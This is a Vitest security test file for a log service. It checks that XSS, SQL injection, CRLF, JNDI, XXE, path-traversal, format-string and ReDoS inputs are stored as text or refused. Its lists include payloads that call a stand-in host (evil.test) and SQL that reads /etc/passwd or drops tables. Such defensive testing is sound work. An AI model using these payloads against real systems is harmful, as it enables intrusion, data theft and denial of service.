import { describe, expect, it } from "vitest";
import { ask, bindings, json, post, settled } from "../worker/ask.ts";
import { postJson } from "../worker/auth/make-key.ts";
import { INSIDES } from "./attack.ts";

interface Records {
  records: Record<string, unknown>[];
}

const recordsOf = async (service: string): Promise<Records["records"]> =>
  (await json<Records>(ask(`/api/logs?service=${service}&from=0`))).records;

const HOSTILE = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "'; DROP TABLE records; --",
  "\u001b[2J\u001b[31mred\u009b0m\u0007",
  "first\r\nSet-Cookie: stolen=1\r\n\r\nHTTP/1.1 200 OK",
  '=HYPERLINK("http://evil.test")',
  "$\u007bjndi:ldap://evil.test/a}",
  "{{7*7}}#{7*7}<%= 7*7 %>",
  "%s%s%s%n%x",
  "../../../../etc/passwd",
  "\u202egnp.exe\u2066",
  "a\ud800b",
  "👩‍👩‍👧‍👦 Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A",
  "a\u0000b",
];

describe("ASVS 1.1.2 1.2.1 1.2.3: what is logged comes back as data", () => {
  it.each(HOSTILE)("%j", async (text) => {
    const service = `data-${HOSTILE.indexOf(text)}`;
    await json(post(`/ingest/${service}`, JSON.stringify({ message: text, path: `/${text}`, evil: text, [text]: 1 })));
    const answer = await ask(`/api/logs?service=${service}&from=0`);
    expect(answer.headers.get("Content-Type")).toMatch(/^application\/json/);
    expect(answer.headers.get("X-Content-Type-Options")).toBe("nosniff");
    expect(answer.headers.get("Set-Cookie")).toBeNull();
    const body = await answer.text();
    expect(body).not.toMatch(/[\u0000-\u001f]/);
    expect((JSON.parse(body) as Records).records).toHaveLength(1);
    expect(await (await ask("/api/services")).text()).not.toContain("INTERNAL");
  });
});

describe("ASVS 16.4.1: what a terminal would obey, or show in another order,", () => {
  const text = "a\u001b[2J\u009b31m\u0090q\u007f\u202etxt.exe\u2066b\u2028c";
  // biome-ignore format: one line a range
  const OBEYED = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

  it.each([
    ["records", () => ask("/api/logs?service=terminal&from=0")],
    ["records that would be stored", () => post("/ingest/terminal?dry=1", JSON.stringify({ message: text }))],
    ["top values", () => ask("/api/top/event?service=terminal&from=0")],
    ["SQL results", () => postJson("/api/sql", { sql: `SELECT '${text.replace("\u001b", "")}' AS x` })],
    ["errors", () => ask(`/api/logs?q=${encodeURIComponent(`"${text}`)}`)],
    ["saved names", () => postJson("/api/views", { kind: "sql", name: text, value: { text } })],
    ["the audit", () => ask("/api/audit")],
  ])("is written out in %s", async (_name, answer) => {
    await json(post("/ingest/terminal", JSON.stringify({ message: text, event: text, path: `/${text}` })));
    const body = await (await answer()).text();
    expect(body.length).toBeGreaterThan(20);
    expect(body).not.toMatch(OBEYED);
    expect(() => JSON.parse(body)).not.toThrow();
  });

  it("is written out in the stream for `curl -N`", async () => {
    await json(post("/ingest/terminal-live", JSON.stringify({ message: text })));
    const answer = await ask("/api/live/sse?service=terminal-live&since=0");
    const reader = answer.body!.getReader();
    let body = "";
    while (!body.includes('"type":"tail"')) body += new TextDecoder().decode((await reader.read()).value);
    await reader.cancel();
    expect(body).toContain("txt.exe");
    expect(body).not.toMatch(OBEYED);
  });
});

describe("ASVS 1.2.4: SQL", () => {
  const QUERIES = [
    "'",
    "' OR '1'='1",
    "'; DROP TABLE records; --",
    'path:"\' OR 1=1 --"',
    "attrs.x':1",
    'attrs."a\') OR 1=1 --":1',
    "level:error' UNION SELECT * FROM settings --",
    "message:*%*_*",
    "has:x);--",
    "status:1)OR(1=1",
    "service:x\u0000y",
    "\\' OR 1=1",
  ];
  it.each(QUERIES)("in a filter is text: %j", async (q) => {
    for (const path of ["/api/logs", "/api/stats", "/api/top/path"]) {
      const answer = await ask(`${path}?service=sql-none&from=0&q=${encodeURIComponent(q)}`);
      expect([200, 400]).toContain(answer.status);
      expect(await answer.text()).not.toMatch(INSIDES);
    }
  });

  it.each(["service", "from", "to", "limit", "cursor", "order", "step"])(
    "in the parameter %s is refused or text",
    async (name) => {
      for (const text of ["'; DROP TABLE records --", "1 OR 1=1", "0x1", "(SELECT 1)"]) {
        const answer = await ask(`/api/logs?${name}=${encodeURIComponent(text)}`);
        expect([200, 400]).toContain(answer.status);
        expect(await answer.text()).not.toMatch(INSIDES);
      }
    },
  );

  it("in lines is text", async () => {
    await json(post("/ingest/sql-lines", "'); DELETE FROM records; --\nRobert'); DROP TABLE services;--"));
    await settled();
    expect(await recordsOf("sql-lines")).toHaveLength(2);
    await bindings.DB.prepare("SELECT count(*) FROM services").first();
  });

  it.each([
    "DROP TABLE records",
    "DELETE FROM records",
    "UPDATE services SET name = 'x'",
    "INSERT INTO services VALUES (1)",
    "SELECT 1; DROP TABLE records",
    "SELECT 1 -- \n; DROP TABLE records",
    "PRAGMA table_list",
    "ATTACH DATABASE 'x' AS y",
    "SELECT * FROM api_keys",
    "SELECT * FROM settings",
    "SELECT * FROM audit",
    "SELECT * FROM sqlite_schema",
    "SELECT * FROM sqlite_master",
    "SELECT * FROM pragma_table_list",
    "SELECT * FROM pragma_function_list()",
    "SELECT * FROM d1_migrations",
    "SELECT * FROM _cf_KV",
    "SELECT load_extension('x')",
    "SELECT readfile('/etc/passwd')",
    "SELECT writefile('/tmp/x', 'y')",
    "SELECT zeroblob(1000000000)",
    "SELECT randomblob(1000000000)",
    "SELECT hex(zeroblob(500000000))",
    "VACUUM",
    "EXPLAIN SELECT 1; SELECT 2",
    "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c",
    "SELECT * FROM main.sqlite_schema",
    'SELECT * FROM "sqlite_schema"',
    "SELECT * FROM temp.sqlite_temp_master",
    "WITH x AS (DELETE FROM records RETURNING *) SELECT * FROM x",
    "REPLACE INTO services VALUES (1)",
    "CREATE TABLE x (y)",
    "BEGIN; SELECT 1",
  ])("of the console is refused: %s", async (sql) => {
    const answer = await postJson("/api/sql", { sql });
    expect(answer.status, await answer.clone().text()).toBe(400);
    expect(await answer.text()).not.toMatch(INSIDES);
    await bindings.DB.prepare("SELECT count(*) FROM records").first();
  });
});

it.each([
  "SELECT printf('%1000000000d', 1)",
  "SELECT printf('%.*c', 1000000000, 'x')",
  "SELECT replace(printf('%1000d', 1), ' ', printf('%1000d', 1))",
  "SELECT group_concat(a.name || b.name) FROM services a, services b, services c, services d",
])("API4 ASVS 15.2.2: an answer of the SQL console stays small: %s", async (sql) => {
  const answer = await postJson("/api/sql", { sql });
  expect(answer.status).toBeLessThan(500);
  expect((await answer.text()).length).toBeLessThan(5_000_000);
});

it.each(["__proto__", "constructor", "prototype", "toString", "hasOwnProperty"])(
  "ASVS 15.3.6: a field named %s is a field",
  async (name) => {
    const service = `proto-${name.toLowerCase().replaceAll("_", "")}`;
    await json(
      post(`/ingest/${service}`, `{"message":"x","${name}":{"isAdmin":true},"nested":{"${name}":{"isAdmin":true}}}`),
    );
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(await recordsOf(service)).toHaveLength(1);
  },
);

it.each(["?service=a&service=b", "?limit=1&limit=2", "?q=a&q=b", "?from=0&from=1"])(
  "ASVS 15.3.7: a parameter given twice is refused: %s",
  async (query) => {
    expect((await ask(`/api/logs${query}`)).status).toBe(400);
  },
);

describe("ASVS 1.3.12: texts that make patterns run away end", () => {
  it.each([
    ["stars", `message:${"*a".repeat(200)}*b`],
    ["nested brackets", `${"(".repeat(15)}a${")".repeat(15)}`],
    ["a phrase", `"${"a".repeat(3_000)}"`],
  ])("%s in a filter", async (_name, q) => {
    await json(post("/ingest/redos", "a".repeat(20_000)));
    const answer = await ask(`/api/logs?service=redos&from=0&q=${encodeURIComponent(q)}`);
    expect([200, 400]).toContain(answer.status);
  });

  it("in a drop rule", async () => {
    const settings = { drop: [{ message: `${"*a".repeat(120)}*b` }] };
    await json(
      ask("/api/services/redos-drop", {
        method: "PUT",
        body: JSON.stringify(settings),
        headers: { "Content-Type": "application/json" },
      }),
    );
    await json(post("/ingest/redos-drop", JSON.stringify({ message: "a".repeat(30_000) })));
  });

  it("in a pattern of fields", async () => {
    for (const pattern of ["%{a}i%{b}i%{c}i", `${"%h ".repeat(100)}`, "%{".repeat(100)]) {
      const answer = await ask("/api/services/redos-pattern", {
        method: "PUT",
        body: JSON.stringify({ pattern }),
        headers: { "Content-Type": "application/json" },
      });
      expect([200, 400]).toContain(answer.status);
      if (answer.status === 200) await json(post("/ingest/redos-pattern", `${"a ".repeat(10_000)}b`));
    }
  });

  it.each([
    ["quotes", '"'.repeat(60_000)],
    ["backslashes", `a="${"\\".repeat(60_000)}`],
    ["equals signs", "=".repeat(60_000)],
    ["brackets", "[".repeat(60_000)],
    ["ANSI openings", "\u001b[".repeat(30_000)],
    ["a user agent", `1.1.1.1 - - [22/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "${"(".repeat(30_000)}"`],
    ["a syslog head", `<13>1 ${"[a b=".repeat(10_000)}`],
    ["percent signs", `GET /${"%25".repeat(20_000)}`],
    ["spaces and commas", " , ".repeat(20_000)],
    ["digits", "1".repeat(60_000)],
  ])("%s in a line", async (_name, line) => {
    expect((await post("/ingest/redos-lines", line)).status).toBe(200);
  });
});

it("ASVS 1.5.1: XML is text, and its entities are nobody's business", async () => {
  const line = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>';
  await json(post("/ingest/xml", line));
  expect(JSON.stringify(await recordsOf("xml"))).toContain("&a;");
});

it("ASVS 1.4.2: numbers that do not fit stay what they were", async () => {
  await json(
    post(
      "/ingest/numbers",
      '{"message":"x","big":12345678901234567890123,"status":"1e309","bytes":-1,"ms":1e308,"nan":"NaN"}',
    ),
  );
  const answer = await (await ask("/api/logs?service=numbers&from=0")).text();
  expect(answer).not.toMatch(/Infinity|null,null/);
});
